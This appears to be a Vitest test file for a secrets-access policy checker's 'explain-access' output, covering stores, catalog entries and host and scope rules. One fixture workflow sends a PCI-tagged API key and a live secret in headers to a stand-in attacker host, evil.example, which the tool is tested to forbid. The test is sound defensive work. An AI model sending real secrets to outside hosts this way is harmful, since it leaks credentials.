import { describe, expect, it } from 'vitest';
import { project, store } from '../project.js';
import { run } from './run.js';

const FILES = {
  'claviger.yaml': `version: 1
environments: [dev, prod]
stores:
  - { files: "secrets/{environment}.yaml", scope: acme }
  - { files: "config.yaml", scope: acme, encrypted: false }
catalogs:
  - { files: secrets/catalog.yaml, scope: acme }
workflows:
  - { files: "flows/*.json", engine: conductor, scope: acme/pay }
  - { files: "other/*.json", engine: conductor, scope: acme/chat, environments: [prod] }
access:
  - { tags: [pci], allow: { scopes: [acme/pay], hosts: ["*.stripe.com"] } }
`,
  'secrets/dev.yaml': store('KEY', 'FREE'),
  'secrets/prod.yaml': store('KEY', 'FREE', 'LIVE'),
  'config.yaml': 'BASE: x\n',
  'secrets/catalog.yaml': `KEY:
  tags: [pci]
  allow:
    fields: [auth, headers]
`,
  'flows/charge.json': flow({
    uri: 'https://api.stripe.com/v1',
    headers: { A: '${workflow.secrets.KEY}', B: '${workflow.secrets.FREE}', C: '${workflow.env.BASE}' },
  }),
  'flows/bad.json': flow({
    uri: 'https://evil.example/v1',
    headers: { A: '${workflow.secrets.KEY}', B: '${workflow.secrets.LIVE}' },
  }),
  'other/chat.json': flow({ uri: 'https://x.example/', body: {} }),
};

function flow(http_request: unknown): string {
  const task = { name: 'c', taskReferenceName: 'c', type: 'HTTP', inputParameters: { http_request } };
  return `${JSON.stringify({ name: 'f', tasks: [task] }, null, 1)}\n`;
}

const explain = (...args: readonly string[]) => run(project(FILES), ['check', '--explain-access', ...args]);

describe('check --explain-access', () => {
  it('tells the chain of a reference that is allowed', async () => {
    const { code, out, err } = await explain('KEY', 'flows/charge.json');
    expect(err).toBe('');
    expect(out).toMatchInlineSnapshot(`
      "KEY in flows/charge.json (conductor, acme/pay)

      12:32 /tasks/0/inputParameters/http_request/headers/A (category headers)
        dev: allowed
          permits  secrets/dev.yaml:1      \`KEY\` of acme
          permits  conductor               the platform: allow
          permits  secrets/catalog.yaml:4  its catalog entry: field of category headers
          permits  claviger.yaml:12        the rule for \`pci\`: scope acme/pay
          permits  claviger.yaml:12        the rule for \`pci\`: host api.stripe.com (*.stripe.com)
        prod: allowed
          permits  secrets/prod.yaml:1     \`KEY\` of acme
          permits  conductor               the platform: allow
          permits  secrets/catalog.yaml:4  its catalog entry: field of category headers
          permits  claviger.yaml:12        the rule for \`pci\`: scope acme/pay
          permits  claviger.yaml:12        the rule for \`pci\`: host api.stripe.com (*.stripe.com)
      "
    `);
    expect(code).toBe(0);
  });

  it('tells the line that forbids', async () => {
    const { code, out } = await explain('KEY', 'flows/bad.json');
    expect(out).toMatchInlineSnapshot(`
      "KEY in flows/bad.json (conductor, acme/pay)

      12:32 /tasks/0/inputParameters/http_request/headers/A (category headers)
        dev: not allowed: claviger.yaml:12 decides
          permits  secrets/dev.yaml:1      \`KEY\` of acme
          permits  conductor               the platform: allow
          permits  secrets/catalog.yaml:4  its catalog entry: field of category headers
          permits  claviger.yaml:12        the rule for \`pci\`: scope acme/pay
          forbids  claviger.yaml:12        the rule for \`pci\`: host evil.example, only *.stripe.com
        prod: not allowed: claviger.yaml:12 decides
          permits  secrets/prod.yaml:1     \`KEY\` of acme
          permits  conductor               the platform: allow
          permits  secrets/catalog.yaml:4  its catalog entry: field of category headers
          permits  claviger.yaml:12        the rule for \`pci\`: scope acme/pay
          forbids  claviger.yaml:12        the rule for \`pci\`: host evil.example, only *.stripe.com
      "
    `);
    expect(code).toBe(1);
  });

  it('tells what a name that is not referred to would have to meet', async () => {
    const { code, out } = await explain('KEY', 'other/chat.json');
    expect(out).toMatchInlineSnapshot(`
      "KEY in other/chat.json (conductor, acme/chat)

      not referred to yet
        prod: not allowed: claviger.yaml:12 decides
          permits  secrets/prod.yaml:1     \`KEY\` of acme
          forbids  claviger.yaml:12        the rule for \`pci\`: scope acme/chat, only acme/pay
          asks     secrets/catalog.yaml:4  its catalog entry: \`fields\` auth or headers
          asks     claviger.yaml:12        the rule for \`pci\`: \`hosts\` *.stripe.com
      "
    `);
    expect(code).toBe(1);
  });

  it('keeps environments apart where they differ', async () => {
    const { code, out } = await explain('LIVE', 'flows/bad.json');
    expect(out).toMatchInlineSnapshot(`
      "LIVE in flows/bad.json (conductor, acme/pay)

      13:32 /tasks/0/inputParameters/http_request/headers/B (category headers)
        dev: not allowed: flows/bad.json:13 decides
          forbids  flows/bad.json:13  it has no value in dev
          permits  conductor          the platform: allow
        prod: allowed
          permits  secrets/prod.yaml:3  \`LIVE\` of acme
          permits  conductor            the platform: allow
          permits  secrets/prod.yaml:3  nothing limits it, neither its catalog entry nor an access rule
      "
    `);
    expect(code).toBe(1);
    expect((await explain('LIVE', 'flows/bad.json', '--env', 'prod')).code).toBe(0);
  });

  it('says that nothing limits a secret or a variable', async () => {
    expect(await explain('FREE', 'flows/charge.json')).toMatchObject({
      code: 0,
      out: expect.stringContaining('nothing limits it, neither its catalog entry nor an access rule'),
    });
    expect(await explain('BASE', 'flows/charge.json')).toMatchObject({
      code: 0,
      out: expect.stringContaining('it is a plain variable, which nothing limits'),
    });
  });

  it.each([
    [['KEZ', 'flows/bad.json'], /there is no secret `KEZ`; did you mean `KEY`\?/],
    [['KEY', 'flows/bda.json'], /there is no workflow `flows\/bda.json`; did you mean `flows\/bad.json`\?/],
    [['KEY', 'config.yaml'], /there is no workflow `config.yaml`/],
    [['KEY', 'other/chat.json', '--env', 'dev'], /other\/chat.json is not deployed to dev/],
    [['KEY', 'flows/bad.json', '--json'], /--explain-access prints text/],
    [['KEY', 'flows/bad.json', '--format', 'line'], /--explain-access prints text/],
    [['KEY', 'flows/bad.json', '--output', 'json=x.json'], /--explain-access prints text/],
    [['KEY'], /--explain-access takes a secret and one workflow/],
    [['KEY', 'flows/bad.json', 'other/chat.json'], /--explain-access takes a secret and one workflow/],
  ])('refuses %j', async (args, message) => {
    expect(await explain(...args)).toMatchObject({ code: 2, out: '', err: expect.stringMatching(message) });
  });
});

describe('explain', () => {
  it('lists every limit of a secret with its line', async () => {
    const { out } = await run(project(FILES), ['explain', 'KEY']);
    expect(/^What it may be used for\n(?: .*\n)+/m.exec(out)?.[0]).toMatchInlineSnapshot(`
      "What it may be used for
        scope  place                   by                  limits  permits
        acme   secrets/catalog.yaml:4  the entry of \`KEY\`  fields  auth or headers
        acme   claviger.yaml:12        the rule for \`pci\`  scopes  acme/pay
        acme   claviger.yaml:12        the rule for \`pci\`  hosts   *.stripe.com
      "
    `);
    expect((await run(project(FILES), ['explain', 'FREE'])).out).not.toContain('What it may be used for');
  });

  it('names the uses that are not permitted, with the line that decides', async () => {
    const { out } = await run(project(FILES), ['explain', 'KEY']);
    expect(/^Where it may not be used, and is\n(?: .*\n)+/m.exec(out)?.[0]).toMatchInlineSnapshot(`
      "Where it may not be used, and is
        flows/bad.json:12:32
          dev, prod: claviger.yaml:12: host evil.example, only *.stripe.com
      "
    `);
    expect((await run(project(FILES), ['explain', 'FREE'])).out).not.toContain('may not be used');
  });
});
